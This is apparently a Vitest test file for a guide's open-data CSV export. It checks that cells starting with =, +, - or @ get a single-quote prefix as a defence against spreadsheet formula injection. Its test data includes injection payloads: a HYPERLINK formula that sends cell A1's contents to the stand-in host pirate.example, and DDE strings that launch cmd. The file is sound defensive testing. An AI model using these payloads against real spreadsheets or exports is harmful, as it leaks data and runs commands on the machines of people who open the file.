/**
 * Spreadsheet formula injection (issue #20, point 8): a cell a spreadsheet would run as a
 * formula is prefixed with a single quote and stays quoted, as OWASP's « CSV Injection » page
 * recommends; the JSON keeps the text as written.
 */
import { describe, expect, it } from 'vitest';
import { buildBook } from '../../src/model/book.ts';
import { CSV_COLUMNS, csvCell, toCsv, toRecords } from '../../src/open-data/records.ts';
import { fiche } from '../lib/fiche.ts';

describe('CSV cells a spreadsheet would run', () => {
	it.each([
		[
			'=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")',
			`"'=HYPERLINK(""https://pirate.example/?""&A1;""Cliquez"")"`,
		],
		['+33 1 23 45 67 89', `"'+33 1 23 45 67 89"`],
		["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
		["@SUM(1+9)*cmd|' /C calc'!A0", `"'@SUM(1+9)*cmd|' /C calc'!A0"`],
		['\t=1+1', `"'\t=1+1"`],
		['\r=1+1', `"' =1+1"`],
		['＝1+1', `"'＝1+1"`],
	])('neutralises %j', (value, expected) => {
		expect(csvCell(value)).toBe(expected);
	});

	it.each([
		['Caen', '"Caen"'],
		['1 000 €', '"1 000 €"'],
		['Santé = bien-être', '"Santé = bien-être"'],
		['', '""'],
		['une ligne\r\nune autre', '"une ligne une autre"'],
	])('leaves %j as it is, quoted', (value, expected) => {
		expect(csvCell(value)).toBe(expected);
	});

	it('neutralises the sheet’s own fields in the export, and the JSON keeps them as written', () => {
		const book = buildBook({
			fiches: [
				fiche('piege', {
					partie: 1,
					titre: '=HYPERLINK("https://pirate.example";"Voir")',
					ville: '@Ville',
					resume: '-Résumé piégé.',
					services: ['+CCAS'],
				}),
			],
			parties: [],
			chapitres: [],
		});
		const records = toRecords(book, 'https://guide.example.org', () => undefined);
		const row = toCsv(records).split('\r\n')[1]!;
		const cell = (header: string) => {
			const index = CSV_COLUMNS.findIndex((c) => c.header === header);
			// Quoted cells: `""` inside a cell is one quote, `;` outside quotes separates.
			return [...row.matchAll(/("(?:[^"]|"")*")(?:;|$)/g)].map((m) => m[1])[index];
		};
		expect(cell('titre')).toBe(`"'=HYPERLINK(""https://pirate.example"";""Voir"")"`);
		expect(cell('ville')).toBe(`"'@Ville"`);
		expect(cell('resume')).toBe(`"'-Résumé piégé."`);
		expect(cell('services')).toBe(`"'+CCAS"`);
		expect(row).not.toMatch(/(^|;)"[=+\-@]/);
		expect(records[0]!.titre).toBe('=HYPERLINK("https://pirate.example";"Voir")');
	});
});
